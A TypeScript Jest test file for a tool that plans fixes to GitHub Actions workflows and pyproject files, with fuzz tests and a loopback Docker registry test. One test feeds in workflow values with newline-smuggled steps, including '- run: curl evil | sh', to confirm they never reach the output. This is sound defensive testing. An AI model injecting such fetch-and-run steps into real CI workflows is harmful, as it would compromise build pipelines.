/**
 * Every input file is hostile: the fix planner over mutated corpus workflows and pyproject texts
 * never throws, never writes a file that stops parsing, never edits what it did not plan, and the
 * resolver's answers (a made-up SHA, a tag with a newline) never reach the text. Also the registry
 * digest client against a loopback registry with Docker Hub's token dance.
 */
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import fc from 'fast-check';
import { applyEdits } from '../src/fix/edits.js';
import { githubFixResolver, imageParts, registryDigest } from '../src/fix/github-resolver.js';
import { planFixes } from '../src/fix/plan.js';
import { parseWorkflow, workflowKindOf } from '../src/workflows/parse.js';
import { parseToml } from '../src/uv/toml.js';
import { HOSTILE_STRINGS, mutateAll, mutationArb, tomlString, workflowTexts } from './support/fuzz-corpus.js';
import { fakeResolver, NOW, scan } from './support/fix.js';

describe('the planner on hostile files', () => {
  const corpus = workflowTexts().filter((w) => w.text.length < 20_000);

  it('never throws, and what it writes still parses and is exactly its edits', async () => {
    const texts = fc.tuple(fc.constantFrom(...corpus), fc.array(mutationArb, { maxLength: 4 }));
    let checked = 0;
    await fc.assert(
      fc.asyncProperty(texts, async ([{ path, text }, mutations]) => {
        const mutated = mutateAll(text, mutations);
        const files = { [path]: mutated };
        const findings = scan(files);
        const plan = await planFixes({ findings, files: new Map(Object.entries(files)), cooldownDays: 7, now: NOW }, fakeResolver());
        const after = plan.results.get(path);
        if (after === undefined) return;
        checked++;
        expect(applyEdits(mutated, plan.edits).text).toBe(after);
        const kind = workflowKindOf(path)!;
        // A file that parsed before still parses after.
        if (parseWorkflow(path, kind, mutated).ok) expect(parseWorkflow(path, kind, after).ok).toBe(true);
      }),
      { numRuns: 150 },
    );
    expect(checked).toBeGreaterThan(10);
  }, 120_000);

  it('edits TOML only to a text that parses and carries the value, whatever the pyproject holds', async () => {
    const value = fc.oneof(fc.constantFrom(...HOSTILE_STRINGS), fc.string({ maxLength: 40 }));
    let written = 0;
    await fc.assert(
      fc.asyncProperty(
        value,
        fc.constantFrom('[tool.uv]\n', '[tool.uv] # c\n', '[tool]\nuv = {}\n', '[tool.uv.sources]\n', '[tool]\nuv.package = false\n', ''),
        async (junk, table) => {
          const files = {
            'pyproject.toml': `[project]\nname = "app"\nversion = "0.1.0"\ndescription = ${tomlString(junk)}\n${table}`,
            'uv.lock': 'version = 1\nrevision = 3\n',
          };
          const findings = scan(files);
          const plan = await planFixes({ findings, files: new Map(Object.entries(files)), cooldownDays: 7, now: NOW }, null);
          const after = plan.results.get('pyproject.toml');
          if (after === undefined) return;
          written++;
          const parsed = parseToml('pyproject.toml', after);
          expect(parsed.ok).toBe(true);
          expect(after.startsWith(files['pyproject.toml'].slice(0, files['pyproject.toml'].indexOf('description')))).toBe(true);
        },
      ),
      { numRuns: 100 },
    );
    expect(written).toBeGreaterThan(50);
  });

  it('never writes a tag or SHA the resolver made up', async () => {
    const wf = 'on: [push]\npermissions: {}\njobs:\n  a:\n    runs-on: x\n    steps:\n      - uses: "o/r@v1\\n- run: evil"\n      - uses: o/r@v2\n';
    const files = { '.github/workflows/a.yml': wf };
    const resolver = { ...fakeResolver(), resolveRef: async () => ({ sha: `${'a'.repeat(40)}\n      - run: curl evil | sh`, kind: 'tag' as const }) };
    const plan = await planFixes({ findings: scan(files), files: new Map(Object.entries(files)), cooldownDays: 7, now: NOW }, resolver);
    expect(plan.results.size).toBe(0);
    expect(plan.unfixed.every((u) => u.rule === 'unpinned-uses')).toBe(true);
  });
});

describe('the real resolvers', () => {
  let server: Server;
  let base = '';
  const digest = `sha256:${'d'.repeat(64)}`;
  const seen: string[] = [];
  beforeAll(async () => {
    server = createServer((req, res) => {
      seen.push(`${req.method} ${req.url} ${req.headers.authorization ?? ''}`);
      if (req.url?.startsWith('/token')) {
        res.writeHead(200, { 'content-type': 'application/json' });
        return res.end(JSON.stringify({ token: 'anon-token' }));
      }
      if (req.url === '/v2/library/python/manifests/3.12') {
        if (req.headers.authorization !== 'Bearer anon-token') {
          res.writeHead(401, { 'www-authenticate': `Bearer realm="${base}/token",service="registry.test",scope="repository:library/python:pull"` });
          return res.end();
        }
        res.writeHead(200, { 'docker-content-digest': digest });
        return res.end();
      }
      res.writeHead(404);
      return res.end();
    });
    await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
    base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  });
  afterAll(async () => new Promise<void>((done) => server.close(() => done())));

  it('reads image references as Docker does', () => {
    expect(imageParts('python:3.12')).toEqual({ registry: 'registry-1.docker.io', repository: 'library/python', tag: '3.12' });
    expect(imageParts('docker://ghcr.io/o/img')).toEqual({ registry: 'ghcr.io', repository: 'o/img', tag: 'latest' });
    expect(imageParts('localhost:5000/a/b:1@sha256:x')).toEqual({ registry: 'localhost:5000', repository: 'a/b', tag: '1' });
    expect(imageParts('python:${{ matrix.v }}')).toBeNull();
    expect(imageParts('Bad Name')).toBeNull();
  });

  it('asks the registry for the manifest digest, with the anonymous token it hands out', async () => {
    const host = base.replace('http://', '');
    expect(await registryDigest(`${host}/library/python:3.12`)).toBe(digest);
    expect(seen.filter((s) => s.startsWith('GET /token'))).toEqual([
      expect.stringContaining('service=registry.test&scope=repository%3Alibrary%2Fpython%3Apull'),
    ]);
    expect(await registryDigest(`${host}/library/python:3.13`)).toBeNull();
  });

  it('peels annotated tags through git/ref and git/tags, and falls back to branches and commits', async () => {
    const commit = 'c'.repeat(40);
    const answers: Record<string, unknown> = {
      '/repos/o/r/git/ref/tags/v1': { object: { type: 'tag', sha: 't'.repeat(40).replace(/t/g, '1') } },
      [`/repos/o/r/git/tags/${'1'.repeat(40)}`]: { object: { type: 'commit', sha: commit } },
      '/repos/o/r/git/ref/heads/main': { object: { type: 'commit', sha: 'b'.repeat(40) } },
      '/repos/o/r/commits/abc1234': { sha: 'a'.repeat(40) },
      '/repos/o/r/releases?per_page=100': [
        { tag_name: 'v1', published_at: '2026-01-01T00:00:00Z', prerelease: false },
        { tag_name: 'v2', published_at: 'bad' },
        { tag_name: 'v3', published_at: '2026-01-01T00:00:00Z', draft: true },
      ],
    };
    const client = {
      get: async <T>(path: string) =>
        path in answers ? { ok: true as const, body: answers[path] as T } : { ok: false as const, failure: 'not-found', message: 'not found' },
    };
    const resolver = githubFixResolver(client, async () => null);
    expect(await resolver.resolveRef('o', 'r', 'v1')).toEqual({ sha: commit, kind: 'tag' });
    expect(await resolver.resolveRef('o', 'r', 'main')).toEqual({ sha: 'b'.repeat(40), kind: 'branch' });
    expect(await resolver.resolveRef('o', 'r', 'abc1234')).toEqual({ sha: 'a'.repeat(40), kind: 'commit' });
    expect(await resolver.resolveRef('o', 'r', 'v9')).toBeNull();
    expect((await resolver.releases('o', 'r')).map((r) => r.tag)).toEqual(['v1']);
    const failing = githubFixResolver({ get: async () => ({ ok: false as const, failure: 'rate-limited', message: 'rate limited' }) });
    await expect(failing.resolveRef('o', 'r', 'v1')).rejects.toThrow('rate limited');
  });
});
